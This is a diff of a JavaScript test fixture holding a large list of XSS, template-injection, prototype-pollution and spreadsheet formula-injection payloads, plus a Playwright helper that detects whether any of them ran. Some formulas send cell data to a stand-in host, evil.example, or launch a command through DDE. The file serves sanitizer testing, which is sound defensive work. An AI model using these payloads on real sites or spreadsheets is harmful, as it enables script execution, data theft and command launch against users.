@@ -1,157 +1,230 @@
-// Texts that would run as script, were they ever taken for markup, an address or code: all set `window.__pwn`.
-// For every text that comes from outside: links, files, messages.
+// Texts that try to become more than texts: markup, scripts, addresses, templates, formulas, names of prototypes. Each is
+// put where a stranger can put a text: in a link, a file, a message. None may run, and none may become an element.
+//
+// What a payload would do is to set `window.__pwn`, or to leave an element with the mark `pwn` in the page.
 
-const CODE = "window.__pwn=1";
-const QUOTED = CODE.replaceAll("=", "&#61;");
-const base64 = (text) => Buffer.from(text).toString("base64");
+const RUN = "window.__pwn=1";
 
-// Elements that run script without any doing of the reader.
+/** Elements that run or load something by themselves. */
 const ELEMENTS = [
-  `<script>${CODE}</script>`,
-  `<script src="data:text/javascript,${CODE}"></script>`,
-  `<script src="data:text/javascript;base64,${base64(CODE)}"></script>`,
-  `<script type="module">${CODE}</script>`,
-  `<img src=x onerror=${CODE}>`,
-  `<img src=x onerror="${CODE}">`,
-  `<img src=x onerror='${CODE}'>`,
-  `<img src=x onerror=${QUOTED}>`,
-  `<img/src/onerror=${CODE}>`,
-  `<img src="data:image/svg+xml,x" onerror=${CODE}>`,
-  `<image href=x onerror=${CODE}>`,
-  `<svg onload=${CODE}>`,
-  `<svg/onload=${CODE}>`,
-  `<svg><script>${CODE}</script></svg>`,
-  `<svg><animate onbegin=${CODE} attributeName=x dur=1s>`,
-  `<svg><set onbegin=${CODE} attributeName=x to=1>`,
-  `<svg><use href="data:image/svg+xml;base64,${base64(`<svg xmlns="http://www.w3.org/2000/svg" id="x"><script>${CODE}</script></svg>`)}#x">`,
-  `<svg><foreignObject><img src=x onerror=${CODE}></foreignObject></svg>`,
-  `<math><mtext><img src=x onerror=${CODE}></mtext></math>`,
-  `<math><mglyph><style><img src=x onerror=${CODE}></style></mglyph></math>`,
-  `<iframe src="javascript:parent.${CODE}"></iframe>`,
-  `<iframe srcdoc="<script>parent.${CODE}</script>"></iframe>`,
-  `<iframe onload=${CODE}></iframe>`,
-  `<object data="javascript:${CODE}"></object>`,
-  `<object data="data:text/html,<script>parent.${CODE}</script>"></object>`,
-  `<embed src="javascript:${CODE}">`,
-  `<body onload=${CODE}>`,
-  `<body onpageshow=${CODE}>`,
-  `<input autofocus onfocus=${CODE}>`,
-  `<select autofocus onfocus=${CODE}>`,
-  `<textarea autofocus onfocus=${CODE}>`,
-  `<button autofocus onfocus=${CODE}>`,
-  `<a href=# autofocus onfocus=${CODE}>x</a>`,
-  `<div tabindex=0 autofocus onfocus=${CODE}>x</div>`,
-  `<details open ontoggle=${CODE}>`,
-  `<video><source onerror=${CODE}></video>`,
-  `<video src=x onerror=${CODE}>`,
-  `<audio src=x onerror=${CODE}>`,
-  `<video autoplay onloadstart=${CODE}><source src=x></video>`,
-  `<marquee onstart=${CODE}>x</marquee>`,
-  `<style onload=${CODE}></style>`,
-  `<link rel=stylesheet href=x onerror=${CODE}>`,
-  `<link rel=stylesheet href="data:text/css,x" onload=${CODE}>`,
-  `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=${CODE}>x</b>`,
-  `<b style="transition:color 1ms" ontransitionend=${CODE}>x</b>`,
-  `<meta http-equiv=refresh content="0;url=javascript:${CODE}">`,
-  `<base href="javascript:${CODE}//">`,
-  `<form action="javascript:${CODE}"><input type=submit autofocus></form>`,
-  `<isindex action="javascript:${CODE}">`,
-  `<template><script>${CODE}</script></template>`,
-  `<noscript><p title="</noscript><img src=x onerror=${CODE}>">`,
-  `<x onclick=${CODE}>x</x>`,
-  `<dialog open onfocus=${CODE} autofocus>x</dialog>`,
-  `<picture><source srcset=x><img onerror=${CODE} src=x></picture>`,
+  `<script>${RUN}</script>`,
+  `<script src="data:text/javascript,${RUN}"></script>`,
+  `<script type=module>${RUN}</script>`,
+  `<SCRIPT>${RUN}</SCRIPT>`,
+  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
+  `<img class=pwn src=x onerror=${RUN}>`,
+  `<img class="pwn" src="x" onerror="${RUN}">`,
+  `<img class=pwn src=x onerror='${RUN}'//`,
+  `<img/class=pwn/src=x/onerror=${RUN}>`,
+  `<svg class=pwn onload=${RUN}>`,
+  `<svg class=pwn><script>${RUN}</script></svg>`,
+  `<svg class=pwn><animate onbegin=${RUN} attributeName=x dur=1s>`,
+  `<svg class=pwn><foreignObject><iframe srcdoc="<script>parent.__pwn=1</script>"></iframe></foreignObject></svg>`,
+  `<math class=pwn><maction actiontype=statusline xlink:href="javascript:${RUN}">x</maction></math>`,
+  `<iframe class=pwn srcdoc="<script>parent.__pwn=1</script>"></iframe>`,
+  `<iframe class=pwn src="javascript:parent.__pwn=1"></iframe>`,
+  `<object class=pwn data="data:text/html,<script>parent.__pwn=1</script>"></object>`,
+  `<embed class=pwn src="data:text/html,<script>parent.__pwn=1</script>">`,
+  `<video class=pwn><source onerror=${RUN}></video>`,
+  `<audio class=pwn src=x onerror=${RUN}></audio>`,
+  `<details class=pwn open ontoggle=${RUN}>x</details>`,
+  `<input class=pwn autofocus onfocus=${RUN}>`,
+  `<select class=pwn autofocus onfocus=${RUN}></select>`,
+  `<textarea class=pwn autofocus onfocus=${RUN}></textarea>`,
+  `<button class=pwn autofocus onfocus=${RUN}>x</button>`,
+  `<body class=pwn onload=${RUN}>`,
+  `<marquee class=pwn onstart=${RUN}>x</marquee>`,
+  `<style class=pwn>*{background:url("javascript:${RUN}")}</style>`,
+  `<style class=pwn onload=${RUN}></style>`,
+  `<link class=pwn rel=stylesheet href=x onerror=${RUN}>`,
+  `<meta class=pwn http-equiv=refresh content="0;url=javascript:${RUN}">`,
+  `<base class=pwn href="javascript:${RUN}//">`,
+  `<form class=pwn action="javascript:${RUN}"><button id=pwn>x</button></form>`,
+  `<a class=pwn href="javascript:${RUN}">x</a>`,
+  `<a class=pwn href="data:text/html,<script>opener.__pwn=1</script>">x</a>`,
+  `<template class=pwn shadowrootmode=open><img src=x onerror=${RUN}></template>`,
+  `<dialog class=pwn open onclose=${RUN}><form method=dialog><button>x</button></form></dialog>`,
+  `<portal class=pwn src="javascript:${RUN}"></portal>`,
+  `<isindex class=pwn type=image src=x onerror=${RUN}>`,
+  `<div class=pwn style="width:expression(${RUN})">x</div>`,
+  `<div class=pwn style="animation-name:x" onanimationstart=${RUN}>x</div>`,
+  `<p class=pwn contenteditable onfocusin=${RUN} tabindex=0 autofocus>x</p>`,
+  `<custom-element class=pwn onclick=${RUN}>x</custom-element>`,
+  `<table class=pwn background="javascript:${RUN}"><tr><td>x</table>`,
+  `<xss class=pwn id=x tabindex=1 onfocus=${RUN} autofocus></xss>`,
 ];
 
-// What stands before an element to leave the place where text is put.
-const LEAVING = ['"', "'", '">', "'>", "-->", "]]>", "</script>", "</style>", "</title>", "</textarea>", "</option></select>"];
+/** What leaves the place where a text stands: an attribute, a comment, a script, a style, a title. */
+const LEADS = [
+  "",
+  '"',
+  "'",
+  '">',
+  "'>",
+  "-->",
+  "</script>",
+  "</style>",
+  "</title>",
+  "</textarea>",
+  "]]>",
+  "`",
+  "\\\"",
+  "\u0000",
+  "\u2028",
+];
 
-// Attributes for a place inside a tag.
+/** Handlers that an attribute would take. */
 const ATTRIBUTES = [
-  `" onfocus=${CODE} autofocus x="`,
-  `' onfocus=${CODE} autofocus x='`,
-  ` onfocus=${CODE} autofocus x=`,
-  `" onmouseover="${CODE}" style="position:fixed;inset:0" x="`,
-  `" onanimationstart="${CODE}" x="`,
-  `x" srcdoc="<script>parent.${CODE}</script>" x="`,
-  `x" formaction="javascript:${CODE}" x="`,
-  `x" href="javascript:${CODE}" x="`,
-  `\`onerror=${CODE}\``,
+  `" onmouseover="${RUN}`,
+  `' onmouseover='${RUN}`,
+  `" autofocus onfocus="${RUN}`,
+  `" style="background:url(javascript:${RUN})`,
+  `x onclick=${RUN}`,
+  `" srcdoc="<script>parent.__pwn=1</script>`,
+  `" formaction="javascript:${RUN}`,
+  `" xlink:href="javascript:${RUN}`,
 ];
 
-// Addresses that are code.
+/** Addresses that run something when they are followed. */
 const ADDRESSES = [
-  `javascript:${CODE}`,
-  `JaVaScRiPt:${CODE}`,
-  ` javascript:${CODE}`,
-  `\tjavascript:${CODE}`,
-  `java\tscript:${CODE}`,
-  `java\nscript:${CODE}`,
-  `\u0001javascript:${CODE}`,
-  `javascript&colon;${CODE}`,
-  `javascript://%0a${CODE}`,
-  `javascript:/*--></title></style></textarea></script><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${CODE}//'>`,
-  `data:text/html,<script>parent.${CODE}</script>`,
-  `data:text/html;base64,${base64(`<script>parent.${CODE}</script>`)}`,
-  `data:text/javascript,${CODE}`,
-  `vbscript:${CODE}`,
-  `blob:javascript:${CODE}`,
-  `//x/%0d%0aContent-Type:text/html%0d%0a%0d%0a<script>${CODE}</script>`,
+  `javascript:${RUN}`,
+  `JaVaScRiPt:${RUN}`,
+  `java\tscript:${RUN}`,
+  `java\nscript:${RUN}`,
+  ` javascript:${RUN}`,
+  `\u0001javascript:${RUN}`,
+  `javascript&colon;${RUN}`,
+  `&#106;avascript:${RUN}`,
+  `vbscript:${RUN}`,
+  `data:text/html,<script>parent.__pwn=1</script>`,
+  `data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd249MTwvc2NyaXB0Pg==`,
+  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`,
+  `blob:${RUN}`,
+  `view-source:javascript:${RUN}`,
+  `//evil.example/x.js`,
+  `https://evil.example/?x`,
+  `\\\\evil.example\\x`,
+  `file:///etc/passwd`,
 ];
 
-// For places where text is put into code, a template or a style.
-const PIECES = [
-  `";${CODE};//`,
-  `';${CODE};//`,
-  `\`;${CODE};//`,
-  `\${${CODE}}`,
-  `{{constructor.constructor('${CODE}')()}}`,
-  `{{${CODE}}}`,
-  `<%= ${CODE} %>`,
-  `#{${CODE}}`,
-  `\\";${CODE};//`,
-  `\u2028${CODE}\u2028`,
-  `\u2029${CODE}\u2029`,
-  `*/${CODE}/*`,
-  `-->\n${CODE}//`,
-  `</script><script>${CODE}</script>`,
-  `expression(${CODE})`,
-  `url("javascript:${CODE}")`,
-  `;background:url(javascript:${CODE})`,
-  `@import "javascript:${CODE}";`,
-  `[].constructor.constructor("${CODE}")()`,
-  `Function("${CODE}")()`,
-  `eval("${CODE}")`,
-  `setTimeout("${CODE}")`,
-  `onerror=${CODE};throw 1`,
-  `import("data:text/javascript,${CODE}")`,
+/** Markup that is written otherwise: by entities, escapes and encodings. */
+const ENCODED = [
+  `&lt;script&gt;${RUN}&lt;/script&gt;`,
+  `&#60;script&#62;${RUN}&#60;/script&#62;`,
+  `&#x3c;script&#x3e;${RUN}&#x3c;/script&#x3e;`,
+  `%3Cscript%3E${RUN}%3C/script%3E`,
+  `%253Cscript%253E${RUN}%253C/script%253E`,
+  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
+  `\\x3cscript\\x3e${RUN}\\x3c/script\\x3e`,
+  `\u003cscript\u003e${RUN}\u003c/script\u003e`,
+  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
+  `\uff1cscript\uff1e${RUN}\uff1c/script\uff1e`,
+  `<\u0000script>${RUN}</script>`,
+  `<script\u00a0>${RUN}</script>`,
+  `<!--><img class=pwn src=x onerror=${RUN}>-->`,
+  `<![CDATA[<script>${RUN}</script>]]>`,
+  `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">${RUN}</x:script>`,
+  `<noscript><p title="</noscript><img class=pwn src=x onerror=${RUN}>">`,
+  `<math><mtext><table><mglyph><style><img class=pwn src=x onerror=${RUN}></style></mglyph></table></mtext></math>`,
+  `<svg></p><style><a id="</style><img class=pwn src=1 onerror=${RUN}>">`,
+  `<form><math><mtext></form><form><mglyph><style></math><img class=pwn src onerror=${RUN}>`,
 ];
 
-// Names that mean something to a script, with and without markup.
-const NAMES = ["__proto__", "constructor", "prototype", "toString", "innerHTML", "srcdoc", "onerror", "document", "window.__pwn=1"];
-
-// An element written so that a reader of markup sees it and a simple filter does not.
-const disguised = (element) => [
-  element.replace(/^<(\w+)/, (_, tag) => `<${[...tag].map((letter, at) => (at % 2 ? letter.toUpperCase() : letter)).join("")}`),
-  element.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
-  element.replaceAll("<", "%3C").replaceAll(">", "%3E"),
-  element.replaceAll("<", "\\u003c").replaceAll(">", "\\u003e"),
-  element.replaceAll("<", "<\u0000"),
-  element.replaceAll("<", "\uFF1C").replaceAll(">", "\uFF1E"),
-  `<${element}`,
-  `${element.slice(0, -1)}//`,
+/** Templates of all kinds, and what would be run as code. */
+const CODE = [
+  `\${${RUN}}`,
+  `{{${RUN}}}`,
+  `{{constructor.constructor('${RUN}')()}}`,
+  `<%= ${RUN} %>`,
+  `#{${RUN}}`,
+  `[[${RUN}]]`,
+  `';${RUN};//`,
+  `";${RUN};//`,
+  `\`;${RUN};//`,
+  `\\';${RUN};//`,
+  `*/${RUN}/*`,
+  `});${RUN};({`,
+  `eval('${RUN}')`,
+  `Function('${RUN}')()`,
+  `setTimeout('${RUN}')`,
+  `import('data:text/javascript,${RUN}')`,
+  `$(${RUN})`,
+  `';alert(String.fromCharCode(88,83,83))//`,
 ];
 
-/** The texts: more than 200, each once. */
-export const payloads = [
+/** Names that objects inherit, and values that look like others. */
+const NAMES = [
+  "__proto__",
+  "constructor",
+  "prototype",
+  "toString",
+  "valueOf",
+  "hasOwnProperty",
+  "__defineGetter__",
+  "constructor.prototype.polluted",
+  "__proto__[polluted]",
+  "innerHTML",
+  "srcdoc",
+  "location",
+  "document.cookie",
+  "null",
+  "undefined",
+  "NaN",
+  "[object Object]",
+  "true",
+];
+
+/** What a spreadsheet would take for a formula. */
+export const FORMULAS = [
+  "=1+1",
+  `=cmd|' /C calc'!A0`,
+  `=HYPERLINK("https://evil.example?"&A1,"x")`,
+  `+1+1`,
+  `-1+1`,
+  `@SUM(1+1)`,
+  "\t=1+1",
+  "\r=1+1",
+  "\n=1+1",
+  "＝1+1",
+  `=IMPORTXML("https://evil.example","//a")`,
+  `-2+3+cmd|' /C calc'!A0`,
+];
+
+/** All of them, each once. */
+export const PAYLOADS = [
   ...new Set([
     ...ELEMENTS,
-    ...LEAVING.flatMap((before) => [ELEMENTS[0], ELEMENTS[4], ELEMENTS[11]].map((element) => before + element)),
+    ...LEADS.flatMap((lead) => ELEMENTS.slice(0, 8).map((element) => lead + element)),
     ...ATTRIBUTES,
     ...ADDRESSES,
-    ...PIECES,
+    ...ENCODED,
+    ...CODE,
     ...NAMES,
-    ...[0, 4, 11, 20, 21, 28, 33].flatMap((at) => disguised(ELEMENTS[at])),
-    ...ADDRESSES.slice(0, 6).flatMap((address) => [`<a href="${address}" autofocus>x</a>`, `<iframe src="${address}">`]),
+    ...FORMULAS,
   ]),
 ];
+
+/**
+ * Watches a page for what a payload would do. Call it before the payloads come, and what it gives after.
+ *
+ * @param {import("playwright-core").Page} tab
+ * @returns {Promise<() => Promise<string[]>>} one sentence for each thing that happened
+ */
+export async function watch(tab) {
+  await tab.evaluate(() => {
+    window.__breaches = [];
+    addEventListener("securitypolicyviolation", (event) => window.__breaches.push(`${event.violatedDirective}: ${event.blockedURI}`));
+  });
+  return () =>
+    tab.evaluate(async () => {
+      // Images that fail and handlers come a moment later.
+      await new Promise((done) => setTimeout(done, 100));
+      const found = [...window.__breaches];
+      if (window.__pwn !== undefined) found.push("a payload ran");
+      if ({}.polluted !== undefined) found.push("a prototype was changed");
+      for (const element of document.querySelectorAll(".pwn, #pwn, [onerror], [onload], [onfocus], [onmouseover], script:not([src], [type=importmap])")) {
+        found.push(`an element came in: ${element.outerHTML.slice(0, 80)}`);
+      }
+      return found;
+    });
+}
